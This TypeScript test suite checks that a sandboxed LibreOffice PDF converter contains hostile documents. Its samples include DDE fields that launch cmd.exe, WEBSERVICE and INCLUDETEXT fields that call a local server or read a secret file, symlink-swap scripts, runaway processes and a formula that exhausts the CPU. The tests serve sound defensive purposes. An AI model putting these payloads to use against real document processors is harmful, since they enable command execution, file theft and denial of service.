import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, copyFile, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { type Conversion, Converter } from "../../../agent/pdf/converter.js";
import { findSuite } from "../../../agent/pdf/suite.js";
import { removeFolder } from "../../folders.js";
import { excelParts, makePackage, relationship, wordParts } from "../../office-documents.js";

let folder: string;
let converter: Converter;
let keptCount = 0;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "seal-converter-"));
  converter = await Converter.open(findSuite(), folder);
});
afterEach(() => removeFolder(folder));

const put = (name: string, parts: Record<string, string>) => makePackage(join(converter.incoming, name), parts);
/** What came of each, in the order of the documents. */
async function convert(by: Converter, ...documents: string[]): Promise<Conversion[]> {
  const made = new Map<string, Conversion>();
  for await (const [document, one] of by.convert(documents)) made.set(document, await kept(one));
  return documents.map((document) => made.get(document)!);
}

/** Where it stays until the test is over. */
async function kept(one: Conversion): Promise<Conversion> {
  if ("error" in one) return one;
  const pdf = join(folder, `${++keptCount}.pdf`);
  await copyFile(one.pdf, pdf);
  return { pdf };
}

/** The names in a folder of the process that works, none before it is there. */
async function foldersOf(place: string): Promise<string[]> {
  const office = (await readdir(folder)).find((name) => name.startsWith("office-"));
  return office === undefined ? [] : readdir(join(folder, office, place)).catch(() => []);
}

const textOf = (conversion: Conversion): string =>
  "pdf" in conversion
    ? execFileSync("pdftotext", [conversion.pdf, "-"], { encoding: "utf8" }).trim()
    : conversion.error.code;

/** A program in the place of LibreOffice that does what a hostile document would want. It is given three seconds. */
async function pretending(...steps: string[]): Promise<Converter> {
  const script = join(converter.incoming, "program");
  await writeFile(script, `#!/bin/sh\n${steps.join("\n")}\n`);
  await chmod(script, 0o755);
  const suite = { ...findSuite(), libreOffice: "/work/in/program" };
  return Converter.open(suite, folder, { startMs: 3000, eachMs: 0 });
}

describe("a batch of documents", () => {
  it("becomes PDFs, a damaged one costs only itself, and nothing stays behind when it is cleared", async () => {
    put("1.docx", wordParts("the first"));
    put("2.docx", wordParts("the other"));
    await writeFile(join(converter.incoming, "3.docx"), "PK\u0003\u0004 and nothing else");
    const texts = (await convert(converter, "1.docx", "3.docx", "2.docx")).map(textOf);
    expect(texts).toEqual(["the first", "converter-failed", "the other"]);
    await converter.clear();
    expect((await readdir(folder)).filter((name) => !name.endsWith(".pdf"))).toEqual(["in"]);
    expect(await readdir(converter.incoming)).toEqual([]);
  });
});

it("is not started where nothing can be confined", async () => {
  const unable = { ...findSuite(), confinement: "/usr/bin/false" };
  await expect(Converter.open(unable, folder)).rejects.toMatchObject({ code: "converter-missing" });
});

describe("a hostile document", () => {
  let server: Server;
  let requests: string[];
  beforeEach(async () => {
    requests = [];
    server = createServer((request, response) => {
      requests.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  });
  afterEach(() => new Promise((resolve) => server.close(resolve)));

  it("asks nobody for pictures, templates or objects, and sees nothing of the files of this computer", async () => {
    const at = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const picture =
      '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:50pt;height:50pt"><v:imagedata r:id="r1"/></v:shape></w:pict></w:r></w:p>';
    const field =
      '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot; "><w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>';
    const include = `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;${at}/text&quot; "><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>`;
    const links = [
      relationship("r1", "image", `${at}/picture.png`, "External"),
      relationship("r2", "attachedTemplate", `${at}/template.dotx`, "External"),
      relationship("r3", "oleObject", `${at}/object.bin`, "External"),
    ];
    const settings = {
      "word/settings.xml":
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="t1"/></w:settings>',
      "word/_rels/settings.xml.rels": wordParts("")["word/_rels/document.xml.rels"]!.replace(
        "</Relationships>",
        `${relationship("t1", "attachedTemplate", `${at}/normal.dotm`, "External")}</Relationships>`,
      ),
    };
    const all = [...links, relationship("r4", "settings", "settings.xml")];
    put("1.docx", { ...wordParts("seen", picture + field + include, ...all), ...settings });
    const sheets = excelParts("counted", "");
    const formulas = [`WEBSERVICE("${at}/service")`, "cmd|'/c calc'!A0", `'${at}/[book.xlsx]S1'!A1`];
    const cells = formulas.map((formula, i) => `<c r="${"BCD"[i]}1"><f>${formula}</f><v>0</v></c>`).join("");
    const sheet = "xl/worksheets/sheet1.xml";
    put("2.xlsx", { ...sheets, [sheet]: sheets[sheet]!.replace("</row>", `${cells}</row>`) });
    const secret = join(folder, "..", `seal-secret-${process.pid}.txt`);
    await writeFile(secret, "the password of the bank");
    const local = `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;${secret}&quot; "><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>`;
    put("3.docx", wordParts("shown", local));
    const texts = (await convert(converter, "1.docx", "2.xlsx", "3.docx")).map(textOf);
    await rm(secret);
    for (const [i, words] of ["seen", "counted", "shown"].entries()) expect(texts[i]).toContain(words);
    expect(requests).toEqual([]);
    expect(texts.join(" ")).not.toContain("password");
  });

  it("that never ends is ended, and all that it started", async () => {
    const endless = await pretending("sleep 1234 &", "while :; do sleep 1; done");
    expect(textOf((await convert(endless, "1.docx"))[0]!)).toBe("converter-failed");
    const processes = execFileSync("ps", ["-eo", "args"], { encoding: "utf8" });
    expect(processes).not.toContain("sleep 1234");
  });

  it("with sums that take for ever is ended in time, and what was behind it is converted", async () => {
    const parts = excelParts("counted", "");
    const sheet = "xl/worksheets/sheet1.xml";
    const sums = Array.from({ length: 20_000 }, (_, i) => {
      const row = i + 2;
      return `<row r="${row}"><c r="A${row}"><f>SUMPRODUCT(ROW($1:$1048576)*ROW($${row}:$1048576))</f></c></row>`;
    });
    put("1.docx", wordParts("the first"));
    put("2.xlsx", { ...parts, [sheet]: parts[sheet]!.replace("</sheetData>", `${sums.join("")}</sheetData>`) });
    put("3.docx", wordParts("the last"));
    const limited = await Converter.open(findSuite(), folder, { startMs: 8000, eachMs: 2000 });
    const texts = (await convert(limited, "1.docx", "2.xlsx", "3.docx")).map(textOf);
    expect(texts).toEqual(["the first", "converter-failed", "the last"]);
    expect(execFileSync("ps", ["-eo", "args"], { encoding: "utf8" })).not.toContain("/in/2.xlsx");
  });

  it("writes nowhere but into its folder", async () => {
    const outside = join(tmpdir(), `seal-outside-${process.pid}`);
    const places = [outside, `/usr/${process.pid}`, "/work/in/x", "/work/x", "/x", "/work/done/x", "/work/out/x"];
    const touch = places.map((place) => `touch ${place} && echo "wrote ${place}" >> /tmp/report`);
    const writing = await pretending(...touch, "(echo '%PDF-1.7 /Type /Page '; cat /tmp/report) > /work/out/1.pdf");
    const [report] = (await convert(writing, "1.docx")) as [{ pdf: string }];
    const written = (await readFile(report.pdf, "utf8")).match(/wrote .*/g);
    const itsOwnTmp = `wrote ${outside}`;
    expect(new Set(written)).toEqual(new Set([itsOwnTmp, "wrote /work/out/x"]));
    expect([outside, `/usr/${process.pid}`].map(existsSync)).toEqual([false, false]);
  });

  it("puts nothing in the place of a PDF that was looked at", async () => {
    const secret = join(folder, "secret");
    await writeFile(secret, "%PDF-1.7 /Type /Page stolen");
    const pdf = (name: string, text: string) => `echo "%PDF-1.7 /Type /Page ${text}" > /work/out/${name}.pdf`;
    const link = `sleep 0.5; while :; do ln -sf ${secret} /work/out/1.pdf; touch /work/out/linked; sleep 0.1; done`;
    const replacing = await pretending(pdf("1", "own"), pdf("2", "other"), link);
    for await (const [, one] of replacing.convert(["1.docx", "2.docx"])) {
      await vi.waitFor(async () => expect(await foldersOf("out")).toContain("linked"), { timeout: 5000 });
      expect(await readFile((one as { pdf: string }).pdf, "utf8")).toContain("own");
      break;
    }
  });

  it("puts no link in the way of what is read, written or erased afterwards", async () => {
    const victim = await mkdtemp(join(tmpdir(), "seal-victim-"));
    execFileSync("cp", ["/bin/true", join(victim, "kept")]);
    makePackage(join(converter.incoming, "1.docx"), wordParts("stolen"));
    const pdf = (await convert(converter, "1.docx"))[0] as { pdf: string };
    execFileSync("cp", [pdf.pdf, join(victim, "1.pdf")]);
    await converter.clear();
    const linking = await pretending(
      `ln -s ${victim}/1.pdf /work/out/1.pdf`,
      `ln -s ${victim} /work/out/more`,
      "mv /work/out /work/other || rm -rf /work/out",
      `ln -s ${victim} /work/out`,
      `rm -rf /work/profile; ln -s ${victim} /work/profile`,
    );
    expect(textOf((await convert(linking, "1.docx", "2.docx"))[0]!)).toBe("converter-failed");
    await linking.clear();
    expect((await readdir(victim)).sort()).toEqual(["1.pdf", "kept"]);
    await rm(victim, { recursive: true });
  });
});
